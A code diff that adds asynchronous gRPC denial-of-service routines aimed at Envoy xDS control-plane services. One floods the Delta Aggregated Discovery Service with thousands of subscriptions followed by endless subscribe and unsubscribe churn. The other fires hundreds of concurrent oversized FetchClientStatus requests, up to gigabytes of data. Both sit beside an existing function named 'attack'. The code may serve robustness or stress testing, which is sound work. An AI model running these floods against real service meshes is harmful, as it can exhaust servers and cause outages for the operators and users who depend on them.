@@ -15,7 +15,9 @@ if TYPE_CHECKING:
     from collections.abc import Callable
 
 METHOD: Final = "/envoy.service.discovery.v3.AggregatedDiscoveryService/StreamAggregatedResources"
+DELTA: Final = "/envoy.service.discovery.v3.AggregatedDiscoveryService/DeltaAggregatedResources"
 STATUS: Final = "/envoy.service.status.v3.ClientStatusDiscoveryService/StreamClientStatus"
+FETCH: Final = "/envoy.service.status.v3.ClientStatusDiscoveryService/FetchClientStatus"
 _MOST_BYTES: Final = 60 << 20
 _FOREVER: Final = 3600.0
 
@@ -96,6 +98,71 @@ async def attack(
     with contextlib.suppress(TimeoutError):
         async with asyncio.timeout(seconds), grpc.aio.insecure_channel(address, options=options) as channel:
             await asyncio.gather(*(one(channel) for _ in range(streams)))
+    return sent
+
+
+async def say_little(
+    address: str,
+    *,
+    most_bytes: int = 256 << 20,
+    seconds: float = 10.0,
+    streams: int = 10,
+    names: int = 19_900,
+) -> int:
+    """Subscribe to many names, then to one more and not to it, again and again; returns the bytes sent."""
+    sent = 0
+    begin = discovery_pb2.DeltaDiscoveryRequest(type_url=TYPE_ENDPOINT)
+    begin.node.id = "abuse"
+    begin.resource_names_subscribe.extend([f"{number:06d}" for number in range(names)])
+    more, less = (discovery_pb2.DeltaDiscoveryRequest(type_url=TYPE_ENDPOINT) for _ in range(2))
+    more.resource_names_subscribe.append("z")
+    less.resource_names_unsubscribe.append("z")
+
+    async def one(channel: grpc.aio.Channel) -> None:
+        nonlocal sent
+        stream: Any = channel.stream_stream(DELTA)
+        while sent < most_bytes:
+            call = stream()
+            with contextlib.suppress(grpc.aio.AioRpcError, asyncio.InvalidStateError):
+                await call.write(begin.SerializeToString())
+                while sent < most_bytes and await call.read() is not grpc.aio.EOF:
+                    # Of the two that follow, the first is answered.
+                    for request in (more, less):
+                        await call.write(request.SerializeToString())
+                        sent += request.ByteSize()
+            await asyncio.sleep(0.01)
+
+    with contextlib.suppress(TimeoutError):
+        async with asyncio.timeout(seconds), grpc.aio.insecure_channel(address) as channel:
+            await asyncio.gather(*(one(channel) for _ in range(streams)))
+    return sent
+
+
+async def fetch_status(
+    address: str,
+    *,
+    size: int = 2_000_000,
+    most_bytes: int = 4 << 30,
+    seconds: float = 10.0,
+    calls: int = 300,
+) -> int:
+    """Ask for the state of all clients in many requests at once, each as large as is taken."""
+    sent = 0
+    request = field(2, field(1, b"x" * size))
+
+    async def one(channel: grpc.aio.Channel) -> None:
+        nonlocal sent
+        call: Any = channel.unary_unary(FETCH)
+        while sent < most_bytes:
+            sent += len(request)
+            with contextlib.suppress(grpc.aio.AioRpcError):
+                await call(request)
+            await asyncio.sleep(0.01)
+
+    options = [("grpc.max_receive_message_length", _MOST_BYTES)]
+    with contextlib.suppress(TimeoutError):
+        async with asyncio.timeout(seconds), grpc.aio.insecure_channel(address, options=options) as channel:
+            await asyncio.gather(*(one(channel) for _ in range(calls)))
     return sent
 
 
